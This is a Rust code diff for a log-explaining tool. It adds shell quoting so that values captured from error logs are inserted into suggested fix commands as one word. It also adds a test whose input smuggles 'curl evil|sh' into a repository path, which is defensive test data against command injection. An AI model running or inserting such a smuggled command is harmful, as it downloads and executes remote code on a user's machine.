@@ -298,6 +298,14 @@ fn finding(
 
 /// Fills `{library}`, `{target}` and so on; a fix about something that the log does not say keeps the word.
 fn fill(finding: &mut Finding) {
+    // pkg-config's options, by the names that the go command's variables have.
+    if let Some(kind) = finding.captured.get_mut("kind") {
+        match kind.as_str() {
+            "cflags" => "CFLAGS".clone_into(kind),
+            "libs" => "LDFLAGS".clone_into(kind),
+            _ => {}
+        }
+    }
     let target = finding.target.clone();
     let put = |text: &str| {
         let mut out = text.to_owned();
@@ -306,10 +314,26 @@ fn fill(finding: &mut Finding) {
         }
         out.replace("{target}", target.as_deref().unwrap_or("TARGET"))
     };
+    // What a log says is nobody's command: it stays one word of the shell, or of TOML.
+    let put_command = |text: &str| {
+        let mut out = text.to_owned();
+        for (name, value) in &finding.captured {
+            let place = format!("{{{name}}}");
+            let inner = value.replace('\'', r"'\''");
+            let word = match value.chars().all(|c| c.is_ascii_alphanumeric() || "._/+=:@%,-".contains(c)) {
+                true => value.clone(),
+                false if text.contains('\n') => "…".to_owned(),
+                false if text.contains(&format!("'{place}'")) => inner,
+                false => format!("'{inner}'"),
+            };
+            out = out.replace(&place, &word);
+        }
+        out.replace("{target}", target.as_deref().unwrap_or("TARGET"))
+    };
     let fixes: Vec<FilledFix> = finding
         .fixes
         .iter()
-        .map(|f| FilledFix { text: put(&f.text), command: f.command.as_deref().map(put) })
+        .map(|f| FilledFix { text: put(&f.text), command: f.command.as_deref().map(put_command) })
         .collect();
     finding.fixes = fixes;
 }
@@ -333,6 +357,17 @@ impl LineCounter<'_> {
 mod tests {
     use super::*;
     use proptest::prelude::*;
+
+    #[test]
+    fn what_a_log_says_stays_one_word() {
+        let log = b"fatal: detected dubious ownership in repository at '/tmp/x;curl evil|sh'";
+        let commands: Vec<String> =
+            explain_log(log).first.unwrap().fixes.into_iter().filter_map(|f| f.command).collect();
+        assert!(commands.iter().any(|c| c.ends_with(" '/tmp/x;curl evil|sh'")), "{commands:?}");
+        let log = b"go: invalid flag in pkg-config --libs: -Wl,x;y";
+        let fix = explain_log(log).first.unwrap().fixes.remove(0).command.unwrap();
+        assert_eq!(fix, "CGO_LDFLAGS_ALLOW='-Wl,x;y' go build");
+    }
 
     #[test]
     fn every_pattern_compiles_and_has_its_needle() {
